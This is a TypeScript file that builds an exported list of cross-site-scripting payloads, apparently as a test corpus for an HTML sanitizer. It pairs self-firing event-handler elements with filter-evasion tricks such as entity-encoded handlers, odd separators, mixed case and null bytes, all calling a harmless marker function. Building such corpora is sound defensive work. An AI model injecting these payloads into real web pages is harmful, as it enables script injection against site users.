import { RUN } from "./xss-call.ts";

/** Elements that fire an event by themselves, with `ON` where the handler stands. */
const FIRING = [
  "<img src=x onerror=ON>",
  "<img srcset=x onerror=ON>",
  "<image src=x onerror=ON>",
  "<picture><source srcset=x><img onerror=ON></picture>",
  "<body onload=ON>",
  "<body onpageshow=ON>",
  "<frameset onload=ON>",
  "<iframe onload=ON></iframe>",
  "<iframe srcdoc='' onload=ON></iframe>",
  "<object data=x onerror=ON></object>",
  "<embed src=x onerror=ON>",
  "<video src=x onerror=ON></video>",
  "<video><source src=x onerror=ON></video>",
  "<audio src=x onerror=ON></audio>",
  "<video autoplay onloadstart=ON src=x></video>",
  "<video><track default src=x onerror=ON></video>",
  "<input type=image src=x onerror=ON>",
  "<input autofocus onfocus=ON>",
  "<select autofocus onfocus=ON></select>",
  "<textarea autofocus onfocus=ON></textarea>",
  "<button autofocus onfocus=ON>b</button>",
  "<a href=#x autofocus tabindex=1 onfocus=ON>a</a>",
  "<p contenteditable autofocus onfocus=ON>p</p>",
  "<x tabindex=1 autofocus onfocus=ON>x</x>",
  "<details open ontoggle=ON>d</details>",
  "<dialog open onbeforetoggle=ON>d</dialog>",
  "<marquee onstart=ON>m</marquee>",
  "<marquee loop=1 width=0 onfinish=ON>m</marquee>",
  "<link rel=stylesheet href=x onerror=ON>",
  "<style onload=ON></style>",
  "<script src=x onerror=ON></script>",
  "<svg onload=ON></svg>",
  "<div onpointerenter=ON style=position:fixed;inset:0>d</div>",
  "<div onscrollend=ON style=overflow:auto>d</div>",
  "<p onclick=ON>p</p>",
  "<p onmouseover=ON>p</p>",
  "<p style='animation:a 1s' onanimationstart=ON>p</p>",
  "<p style='transition:all 1s' ontransitionend=ON>p</p>",
];
/** Ways to write a handler that a filter might not see as one. */
const OTHER_HANDLERS = [
  `"${RUN}"`,
  `'${RUN}'`,
  `"&#120;ssRan&#40;&#41;"`,
  `"&#x78;ssRan&lpar;&rpar;"`,
  "\"location='javascript:xssRan%28%29'\"",
];
const SEPARATORS = ["/", "\n", "\t", "\f", "/**/", " x=1 "];

export const EVENTS = [
  ...FIRING.flatMap((element, index) => {
    const others = [1, 2].map((step) => OTHER_HANDLERS[(index + step) % OTHER_HANDLERS.length] ?? RUN);
    return [RUN, ...others].map((handler) => element.replace("ON", handler));
  }),
  ...SEPARATORS.flatMap((separator) => [
    `<img${separator}src=x${separator}onerror=${RUN}>`,
    `<svg${separator}onload=${RUN}>`,
  ]),
  `<IMG SRC=x ONERROR=${RUN}>`,
  `<img src=x oNeRrOr=${RUN}>`,
  `<img src=x onerror\n=\n${RUN}>`,
  `<img src=x onerror=${RUN}`,
  `<img src='x'onerror=${RUN}>`,
  `<img src=x on\u0000error=${RUN}>`,
];
